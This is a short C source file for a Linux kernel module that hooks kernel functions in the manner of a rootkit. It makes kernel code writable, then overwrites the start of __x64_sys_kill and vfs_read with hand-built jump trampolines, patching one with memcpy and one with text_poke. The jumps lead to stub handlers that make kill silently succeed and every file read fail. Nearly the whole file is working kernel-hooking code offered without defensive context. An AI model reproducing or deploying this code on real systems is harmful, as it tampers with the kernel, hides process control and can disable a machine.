/* A jump is put together on the stack and copied over a function; another one is patched in by text_poke(). */
#define SIZE_OF_MODULE 0x380
#include "module.h"
MODULE("GPL", "4.19.0 SMP mod_unload ")

extern ulong kallsyms_lookup_name(const char *);
extern void *memcpy(void *, const void *, ulong);
extern int set_memory_rw(ulong, int);

static long fake_kill(void *regs) { return 0; }
static int fake_vfs_read(void *file) { return -1; }
static void *(*poke)(void *, const void *, ulong);

int __init init_module(void)
{
	char code[12] = { 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0 };
	ulong target = kallsyms_lookup_name("__x64_sys_kill");
	void *to = fake_kill;
	set_memory_rw(target, 1);
	*(void *volatile *)(code + 2) = to;
	memcpy((void *)target, code, sizeof(code));
	poke = (void *)kallsyms_lookup_name("text_poke");
	*(void *volatile *)(code + 2) = (void *)fake_vfs_read;
	poke((void *)kallsyms_lookup_name("vfs_read"), code, sizeof(code));
	return 0;
}
